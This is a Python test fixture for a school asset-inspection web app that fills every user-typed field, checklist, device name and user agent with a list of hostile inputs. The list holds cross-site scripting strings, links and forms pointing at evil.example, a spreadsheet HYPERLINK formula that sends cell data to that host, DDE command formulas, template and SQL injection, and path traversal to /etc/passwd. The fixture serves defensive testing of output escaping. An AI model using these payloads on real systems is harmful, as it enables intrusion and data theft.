"""Texts that attack whoever shows, prints or exports them, and a school in which people have typed nothing else."""

from __future__ import annotations

from dataclasses import dataclass, field
from itertools import cycle, islice

from flask.testing import FlaskClient

from tests.cast import PASSWORD, School
from tests.phones import Phone, new_id
from webapp.journal.desk import Say, say_many
from webapp.patrol.checklists import builtin_checklists, publish_data

RUN = "window.pwned=1"
# an element of this name, a flag or a request on a page means that a text became markup
ELEMENT = "x-pwned"
PAYLOADS = (
    f"<{ELEMENT}></{ELEMENT}><script>{RUN}</script>",
    f'"><img src=//evil.example/x onerror={RUN}>',
    f"'><svg/onload={RUN}><{ELEMENT}>",
    f"javascript:{RUN}//",
    f"</title></textarea></script><script>{RUN}</script><{ELEMENT}>",
    f"--><{ELEMENT}><!--",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    "<form action=//evil.example/><input name=password>",
    "{{7*7}}{% raise %}${7*7}#{7*7}<%=7*7%>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"按這裡")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "{=1+1}",
    "'=1+1",
    "http://evil.example/",
    "\u202e\u2067gpj.exe\u2066\u2069\u202d",
    "\u200b\u200d\u2060\ufeff零寬\u00ad",
    "a\x01\x08\x1b[31m\x7f\x85b",
    "\ufdd0\ufffe\uffff",
    "Z\u0351\u036b\u0343\u036a\u0302" * 12,
    "W" * 110,
    "👩\u200d🔧🏳️\u200d🌈\U000e0001\U0010fffd",
    "مرحبا بالعالم",
    "__proto__ constructor toString",
    "../../../etc/passwd%00%0d%0aSet-Cookie: x=1",
    "'; DROP TABLE record; --",
    "]]>&lt;b&gt;&#60;b&#62;",
)
LINES = tuple(f"{text}\r\n\t{text}" for text in PAYLOADS)


@dataclass
class HostileSchool:
    """Ids of what bears the payloads, in their order."""

    school: School
    assets: list[str] = field(default_factory=list)
    places: list[str] = field(default_factory=list)
    people: list[str] = field(default_factory=list)
    damages: list[str] = field(default_factory=list)
    inspections: list[str] = field(default_factory=list)
    held: list[str] = field(default_factory=list)
    phones: list[str] = field(default_factory=list)


def shifted(number: int, most: int = 120) -> str:
    """Another payload for each further field of a thing."""
    return PAYLOADS[number % len(PAYLOADS)][:most].strip() or "-"


def fill(school: School) -> HostileSchool:
    """Let every field that people type in hold a payload. Each record must be taken: no text is refused as such."""
    hostile = HostileSchool(school)
    sayings = [Say("school.save", {"fields": {"name": PAYLOADS[0]}}), *_checklists()]
    for number in range(len(PAYLOADS)):
        sayings += _things(hostile, number) + _statements(hostile, number)
    outcomes = say_many(school.person("administrator"), sayings)
    refused = [(said.type, found) for said, found in zip(sayings, outcomes, strict=True) if found.outcome != "stored"]
    assert [type_ for type_, _found in refused] == ["nobody.knows"] * len(PAYLOADS), refused
    _phones(hostile)
    return hostile


def _checklists() -> list[Say]:
    checklist = next(body for body in builtin_checklists() if body["id"] == "extinguisher_monthly")
    said = dict.fromkeys(checklist["name"], PAYLOADS[1])
    items = [item | {"label": dict.fromkeys(item["label"], PAYLOADS[at])} for at, item in enumerate(checklist["items"])]
    hostile = checklist | {"id": "hostile", "name": said, "items": items}
    return [Say("checklist.publish", publish_data(body)) for body in (checklist, hostile)]


def _things(hostile: HostileSchool, number: int) -> list[Say]:
    place, asset, person = new_id(), new_id(), new_id()
    hostile.places.append(place)
    hostile.assets.append(asset)
    hostile.people.append(person)
    texts = ("brand", "model", "spec", "serial", "fund_source", "invoice", "supplier", "department", "user_name")
    named = {name: shifted(number + at) for at, name in enumerate(texts, 1)}
    rest = {"note": LINES[number][:2000], "unit": shifted(number, 16), "number": f"{number}{shifted(number, 60)}"}
    building = {"kind": "building", "name": shifted(number), "number": shifted(number, 64), "note": LINES[number]}
    room = building | {"kind": "room", "parent_id": hostile.places[0]} if number else building
    custodian = {"name": shifted(number), "department": shifted(number + 1)}
    thing = {"name": shifted(number), "category": "extinguisher", "place_id": place, "custodian_id": person}
    sticker = {"code": shifted(number).replace("\n", ""), "target": {"kind": "asset", "id": asset}, "is_foreign": True}
    return [
        Say("custodian.save", {"id": person, "fields": custodian}),
        Say("place.save", {"id": place, "fields": room}),
        Say("asset.save", {"id": asset, "fields": thing | named | rest}),
        Say("tag.bind", sticker),
    ]


def _statements(hostile: HostileSchool, number: int) -> list[Say]:
    damage, inspection, held = new_id(), new_id(), new_id()
    hostile.damages.append(damage)
    hostile.inspections.append(inspection)
    hostile.held.append(held)
    target = {"kind": "asset", "id": hostile.assets[-1], "via": "list"}
    text = LINES[number]
    report = {"category": "lock", "description": text, "quantity": 1, "cause": "unknown", "note": text}
    answers = {"place": {"value": "pass"}, "gauge": {"value": "fail", "note": text}}
    inspected = {"checklist_id": "extinguisher_monthly", "checklist_version": 1, "answers": answers, "note": text}
    return [
        Say("damage.report", report, target=target, record_id=damage),
        Say("inspection.record", inspected, target=target, record_id=inspection),
        Say("nobody.knows", {PAYLOADS[number]: text}, record_id=held),
    ]


def _phones(hostile: HostileSchool) -> None:
    """Phones name and describe themselves; nobody has looked at what they say."""
    for number, text in enumerate(islice(cycle(PAYLOADS), 0, len(PAYLOADS), 4)):
        phone = Phone(NamedClient(hostile.school.app, text))
        assert phone.sign_in("patrol", PASSWORD).status_code == 200
        status = {"n_max": 1, "queued": 1, "app": text, "oldest_queued_at": text, "clock_ms": number}
        lost = phone.seal("damage.report", {"text": text}, target={"code": text, "via": "scan"}, tz=text, app=text)
        assert phone.push(lost, status=status).json["outcomes"][0]["outcome"] == "held"
        hostile.phones.append(phone.device)


class NamedClient(FlaskClient):
    """A browser whose device and program call themselves something."""

    def __init__(self, app: object, name: str) -> None:
        super().__init__(app, getattr(app, "response_class", None))  # type: ignore[arg-type]
        self.name = name

    def post(self, *arguments: object, **more: object):  # type: ignore[no-untyped-def]
        asked = more.get("json")
        if isinstance(asked, dict) and "device_name" in asked:
            asked["device_name"] = self.name
        agent = self.name.encode("ascii", "ignore").decode().translate(dict.fromkeys((*range(32), 127)))
        more["headers"] = {**(more.get("headers") or {}), "User-Agent": agent}  # type: ignore[dict-item]
        return super().post(*arguments, **more)  # type: ignore[arg-type]
